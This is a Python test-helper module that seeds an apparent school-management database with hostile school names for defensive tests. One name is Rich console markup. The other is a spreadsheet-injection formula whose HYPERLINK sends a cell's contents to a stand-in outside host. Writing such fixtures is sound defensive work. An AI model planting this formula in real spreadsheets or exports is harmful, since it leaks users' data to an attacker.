"""Shared helpers of the hostile-file tests: an office that holds schools with hostile
names (Rich markup, a spreadsheet formula), made once per test module.

(A module of helpers named so that it belongs to the tests; it holds no tests.)
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from metodkab.storage.db import open_store
from metodkab.sync.municipal import import_packets, init_municipality, open_municipal
from metodkab.sync.sample import sample_school
from metodkab.sync.school import export_packet, import_municipality_key
from tests.unit.test_sync_support import CLOCK

MARKUP_NAME = "[/]Школа [b]"
FORMULA_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Нажмите")'


@dataclass
class HostileOffice:
    office: Path
    out: Path


def hostile_office(folder: Path, *, staff: int = 4) -> HostileOffice:
    """An office database with two schools: one named with Rich markup, one whose full and
    short names are a spreadsheet formula."""
    folder.mkdir(parents=True, exist_ok=True)
    office = init_municipality(folder / "office.sqlite", name="УО [red]района[/]", clock=CLOCK)
    out = folder / "out"
    out.mkdir()
    for n, (code, name) in enumerate((("0412", MARKUP_NAME), ("0413", FORMULA_NAME))):
        path = sample_school(folder / f"{code}.sqlite", code=code, staff=staff, seed=n + 1)
        store = open_store(path, clock=CLOCK)
        try:
            with store.atomic():
                store.conn.execute("UPDATE school SET short_name = ?, full_name = ?",
                                   (name, name))
            import_municipality_key(store, office.public_path)
            export_packet(store, out)
        finally:
            store.close()
    muni = open_municipal(office.db_path, clock=CLOCK)
    try:
        report = import_packets(muni, sorted(out.glob("*.mkp")), trusted=True)
        assert not report.refused, [o.message for o in report.refused]
    finally:
        muni.close()
    return HostileOffice(office.db_path, out)
